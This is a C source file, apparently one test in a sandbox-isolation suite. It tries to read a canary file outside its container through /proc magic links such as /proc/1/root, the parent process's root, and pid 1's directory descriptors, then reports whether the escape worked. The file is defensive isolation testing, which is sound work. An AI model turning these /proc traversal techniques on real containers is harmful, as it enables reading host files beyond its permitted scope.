/* FS-04 (filesystem): magic links.
 * Reads the canary through /proc/self/root, /proc/1/root, /proc/<ppid>/root,
 * /proc/1/cwd/../.., and directory fds found in /proc/1/fd/. Also compares the
 * inode of /proc/1/root with our "/". Natively /proc/1/root is the host root
 * -> TOKEN. Blocked: own PID namespace (pid 1 is the container's init) or no /proc
 * in WASI (ENOENT/ENOTCAPABLE). */
#include "common.h"

int main(int argc, char **argv) {
  if (argc < 2) { printf("usage: fs-04 <canary>\n"); return ATK_INCONCLUSIVE; }
  const char *c = argv[1][0] == '/' ? argv[1] + 1 : argv[1];
  char p[4096];
  int leaked = 0;
  const char *roots[] = {"/proc/self/root", "/proc/1/root", "/proc/1/cwd/../../../../../../..", NULL};
  for (int i = 0; roots[i]; i++) {
    snprintf(p, sizeof p, "%s/%s", roots[i], c);
    leaked |= atk_try_read(roots[i], p);
  }
#ifndef __wasi__
  snprintf(p, sizeof p, "/proc/%d/root/%s", (int)getppid(), c);
  leaked |= atk_try_read("ppid-root", p);
  for (int fd = 0; fd < 64; fd++) {
    char l[64]; snprintf(l, sizeof l, "/proc/1/fd/%d", fd);
    struct stat st;
    if (stat(l, &st) == 0 && S_ISDIR(st.st_mode)) {
      snprintf(p, sizeof p, "%s/../../../../../../../../%s", l, c);
      leaked |= atk_try_read("pid1-dirfd", p);
    }
  }
#endif
  struct stat a, b;
  if (stat("/proc/1/root/", &a) == 0 && stat("/", &b) == 0)
    printf("INFO:/proc/1/root ino=%llu dev=%llu; / ino=%llu dev=%llu\n",
           (unsigned long long)a.st_ino, (unsigned long long)a.st_dev,
           (unsigned long long)b.st_ino, (unsigned long long)b.st_dev);
  else
    printf("INFO:stat /proc/1/root -> %s\n", atk_errname(errno));
  return leaked ? ATK_ACHIEVED : ATK_BLOCKED;
}
